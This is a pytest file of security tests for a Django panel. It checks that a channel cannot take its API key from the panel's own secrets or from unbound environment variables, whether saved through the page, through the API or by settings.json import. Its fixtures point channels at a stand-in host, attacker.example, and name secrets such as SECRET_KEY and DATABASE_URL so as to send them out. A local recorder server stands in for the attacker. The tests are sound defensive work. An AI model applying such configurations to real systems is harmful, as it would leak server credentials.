"""Attack tests: a channel may read its key only from an environment variable the operator binds (in
TOKENWISE_CREDENTIAL_ENV_BINDINGS; tests/system/test_security_operator_keys.py tests where it may be sent), never from
the panel's own secrets, at save (page, API), at settings.json import, and for channels saved before the rule."""
import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from django.core.exceptions import ValidationError

from panel.channels.models import Channel, ChannelKind, CredentialError, CredentialKind
from panel.channels.services import channel_create, channel_test
from panel.channels.settings_json import settings_import
from tests.support.api_helpers import bearer, token_for
from tests.support.credential_env import bind_credential_env

PANEL_SECRETS = ["SECRET_KEY", "TOKENWISE_ENCRYPTION_KEYS", "DATABASE_URL", "REDIS_URL", "TOKENWISE_METRICS_TOKEN",
                 "ENGINE_PYTHON", "TOKENWISE_DATA_DIR", "DJANGO_SETTINGS_MODULE"]


def env_channel(team, variable, **changes):
    fields = dict(name="stolen", kind=ChannelKind.REMOTE, base_url="https://attacker.example/v1", model_id="m",
                  credential_kind=CredentialKind.ENV, credential_env=variable)
    fields.update(changes)
    return channel_create(team=team, **fields)


@pytest.mark.parametrize("name", PANEL_SECRETS)
def test_a_panel_secret_cannot_be_named_at_save(team_setup, name):
    with pytest.raises(ValidationError) as caught:
        env_channel(team_setup["team_a"], name)
    assert "part of the panel's own configuration" in caught.value.message_dict["credential_env"][0]
    assert not Channel.objects.exists()


def test_a_panel_secret_stays_refused_even_when_the_operator_lists_it(team_setup, settings, monkeypatch):
    settings.CREDENTIAL_ENV_ALLOW = ["SECRET_KEY", "MY_PROVIDER_KEY"]
    for name in ("SECRET_KEY", "MY_PROVIDER_KEY"):
        bind_credential_env(monkeypatch, name, "https://attacker.example")
    with pytest.raises(ValidationError):
        env_channel(team_setup["team_a"], "SECRET_KEY")
    assert env_channel(team_setup["team_a"], "MY_PROVIDER_KEY").credential_env == "MY_PROVIDER_KEY"


@pytest.mark.parametrize("name", ["HOME", "PATH", "AWS_SECRET_ACCESS_KEY", "OPENAI_API_KEY"])
def test_a_variable_outside_the_prefix_and_the_list_is_refused(team_setup, name):
    with pytest.raises(ValidationError) as caught:
        env_channel(team_setup["team_a"], name)
    message = caught.value.message_dict["credential_env"][0]
    assert "not a variable the operator allows" in message and "TOKENWISE_UPSTREAM_" in message
    assert "TOKENWISE_CREDENTIAL_ENV_BINDINGS" in message


def test_a_bound_variable_and_the_default_binding_are_allowed(team_setup, monkeypatch):
    monkeypatch.setenv("TOKENWISE_UPSTREAM_PROVIDER", "sk-upstream-12345678")
    bind_credential_env(monkeypatch, "TOKENWISE_UPSTREAM_PROVIDER", "https://provider.example")
    channel = env_channel(team_setup["team_a"], "TOKENWISE_UPSTREAM_PROVIDER", base_url="https://provider.example/v1")
    assert channel.api_key() == "sk-upstream-12345678" and channel.misconfigured == ""
    monkeypatch.setenv("TAOTOKEN_API_KEY", "sk-taotoken-12345678")  # the default binding: the seeds' variable
    assert env_channel(team_setup["team_a"], "TAOTOKEN_API_KEY", name="tao",
                       base_url="https://taotoken.net/api/v1").api_key() == "sk-taotoken-12345678"


def test_the_api_refuses_a_panel_secret_with_the_reason(client, team_setup):
    raw = token_for(team_setup["alice"], team_setup["team_a"])
    body = {"name": "cloud", "kind": "remote", "base_url": "https://attacker.example/v1", "model_id": "m",
            "credential_kind": "env", "credential_env": "TOKENWISE_ENCRYPTION_KEYS",
            "price_input_per_million": "1", "price_output_per_million": "2", "price_cached_per_million": "0.5"}
    answer = client.post("/api/v1/channels", data=json.dumps(body), content_type="application/json", **bearer(raw))
    assert answer.status_code == 400
    errors = answer.json()["errors"]
    assert "panel's own configuration" in errors.get("credential_env", [""])[0], errors
    assert not Channel.objects.exists()


@pytest.mark.parametrize("document", [
    {"channels": {"cloud": {"base_url": "https://attacker.example/v1", "api_key": "${SECRET_KEY}",
                            "model_id": "m"}}, "default_channel": "cloud"},
    {"provider": "cloud", "base_url": "https://attacker.example/v1", "api_key_env": "DATABASE_URL",
     "default_model": "m", "endpoints": {"local_vllm": "http://127.0.0.1:8000/v1",
                                         "cloud_fallback": "https://attacker.example/v1"}},
])
def test_settings_json_cannot_name_a_panel_secret(team_setup, document):
    with pytest.raises(ValidationError) as caught:
        settings_import(team=team_setup["team_a"], text=json.dumps(document))
    assert any("panel's own configuration" in message for message in caught.value.messages), caught.value.messages
    assert not Channel.objects.exists()


class Recorder:
    """A server that records the Authorization header of every request (the attacker's end)."""

    def __init__(self):
        self.seen = []
        recorder = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def do_GET(self):
                recorder.seen.append(self.headers.get("Authorization"))
                self.send_response(404)
                self.end_headers()

            do_POST = do_GET

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/v1"

    def close(self):
        self.server.shutdown()
        self.server.server_close()


def test_a_channel_saved_before_the_rule_is_misconfigured_and_sends_nothing(team_setup, settings):
    recorder = Recorder()
    try:
        # As an old installation has it: written before the rule existed, bypassing the checks.
        channel = Channel.objects.create(team=team_setup["team_a"], name="old", kind=ChannelKind.REMOTE,
                                         base_url=recorder.url, model_id="m", credential_kind=CredentialKind.ENV,
                                         credential_env="SECRET_KEY")
        with pytest.raises(CredentialError, match="panel's own configuration"):
            channel.api_key()
        result = channel_test(channel)
        assert not result["ok"] and result["kind"] == "credential"
        assert "panel's own configuration" in Channel.objects.get(pk=channel.pk).misconfigured
        assert recorder.seen == []
        assert settings.SECRET_KEY not in json.dumps(result)
    finally:
        recorder.close()
